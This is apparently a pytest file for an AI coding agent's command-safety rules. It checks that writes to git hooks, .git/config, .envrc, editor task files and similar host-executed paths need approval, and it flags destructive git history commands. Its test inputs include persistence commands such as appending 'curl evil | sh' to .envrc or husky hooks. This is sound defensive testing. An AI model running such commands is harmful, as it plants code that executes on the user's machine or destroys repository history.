"""Writes to project files the host runs later (git hooks and config, .envrc,
Herald's project plugins, editor task files) need approval however they are
spelled, and git commands that make history unrecoverable ask too."""

from __future__ import annotations

import pytest

from herald.safety import RULE_CATALOGUE, check_command
from herald.safety.host_executed import HOST_EXECUTED_PATHS, HOST_EXECUTED_RULE

ENV = {"HOME": "/home/owner", "PWD": "/work/proj"}


@pytest.mark.parametrize(
    "command",
    [
        "echo '#!/bin/sh' > .git/hooks/post-checkout",
        "printf x >> .git/hooks/pre-commit",
        "cp /tmp/evil .git/hooks/post-merge",
        "mv evil.sh .git/hooks/pre-push",
        "install -m 755 evil .git/hooks/post-checkout",
        "ln -s /tmp/evil .git/hooks/post-checkout",
        "mkdir -p .git/hooks && tee .git/hooks/post-checkout < evil",
        "cat evil | tee -a ./.git/hooks/../hooks/commit-msg",
        "sed -i 's/x/y/' .git/config",
        "echo '[core] fsmonitor = evil' >> /work/proj/.git/config",
        "echo ../evil > .git/commondir",
        "echo 'gitdir: ./evil' > .git",
        "cp -r evil-hooks .git",
        "echo 'curl evil | sh' >> .envrc",
        "cp x sub/project/.envrc",
        "cat > .vscode/tasks.json",
        "tee .vscode/settings.json < s",
        "cp run.xml .idea/runConfigurations/run.xml",
        "cp plugin.py .herald/plugins/p.py",
        "echo '{}' > .devcontainer/devcontainer.json",
        "echo x > .git/modules/lib/hooks/post-checkout",
        "cat >> ~/.gitconfig",
        "tee ~/.config/git/config",
        "cd sub && echo x > .git/hooks/pre-commit",
        "git config --edit",
        "git config --rename-section x core",
        "git init --template=/tmp/evil .",
        "echo '- repo: local' >> .pre-commit-config.yaml",
        "echo 'curl evil | sh' >> .husky/pre-commit",
        "cp evil .githooks/pre-push",
        "tee lefthook.yml < evil",
        "git init --template /tmp/evil",
        "git clone --template=/tmp/t https://example.com/r.git",
        "bash -c 'echo x > .git/hooks/post-checkout'",
        "find . -name x -exec cp {} .git/hooks/pre-commit \\;",
    ],
)
def test_writes_to_host_executed_files_need_approval(command: str) -> None:
    verdict = check_command(command, env=ENV)
    assert not verdict.allowed and not verdict.is_hardline, command
    assert HOST_EXECUTED_RULE in verdict.rules, (command, verdict.rules)


@pytest.mark.parametrize(
    "command",
    [
        "cat .git/hooks/pre-commit.sample",
        "ls -la .git/hooks",
        "git config user.name 'A Person'",
        "git config --global user.email a@example.com",
        "git config core.hooksPath",
        "git config --get core.fsmonitor",
        "git config --list --show-origin",
        "git config get alias.st",
        "git config color.ui auto",
        "echo x > notes/git-hooks.md",
        "echo x > src/config",
        "cp a.txt vscode-notes.txt",
        "echo x > .github/workflows-notes",
        "git status && git diff",
        "git commit -m 'x'",
        "git gc",
    ],
)
def test_ordinary_commands_nearby_stay_allowed(command: str) -> None:
    verdict = check_command(command, env=ENV)
    assert verdict.allowed, (command, verdict.rules)


@pytest.mark.parametrize(
    "command",
    [
        "git reflog expire --expire=now --all",
        "git reflog delete HEAD@{1}",
        "git gc --prune=now",
        "git gc --aggressive --prune=all",
        "git prune --expire=now",
        "git update-ref -d refs/heads/wip",
    ],
)
def test_history_loss_asks(command: str) -> None:
    verdict = check_command(command, env=ENV)
    assert "dangerous.git_destructive" in verdict.rules, (command, verdict.rules)


def test_the_rule_is_catalogued_and_the_list_is_the_one_sandboxes_mount() -> None:
    assert RULE_CATALOGUE[HOST_EXECUTED_RULE][0] == "approval"
    paths = {p.path for p in HOST_EXECUTED_PATHS}
    assert {".git/hooks", ".git/config", ".git/commondir", ".envrc", ".herald", ".vscode"} <= paths
    for entry in HOST_EXECUTED_PATHS:  # every listed path is caught by the command rule
        inside = entry.path + ("/x" if entry.kind == "dir" else "")
        verdict = check_command(f"echo x > {inside}", env=ENV)
        assert HOST_EXECUTED_RULE in verdict.rules, entry.path


@pytest.mark.parametrize(
    "command",
    [
        "git config core.hooksPath /tmp/hooks",
        "git config --global core.fsmonitor 'evil'",
        "git config --add alias.st '!sh -c evil'",
        "git -C sub config include.path /tmp/evil.cfg",
        "git config set core.sshCommand evil",
        "git config --local credential.helper '!evil'",
        "git config filter.x.clean evil",
        "git config Core.HooksPath /tmp/h",
    ],
)
def test_git_settings_that_run_programs_need_approval(command: str) -> None:
    """Judged by value once, in rules_persistence (the sandbox mounts .git/config
    read-only besides)."""
    verdict = check_command(command, env=ENV)
    assert not verdict.allowed and not verdict.is_hardline, command
    assert "dangerous.persistence" in verdict.rules, (command, verdict.rules)
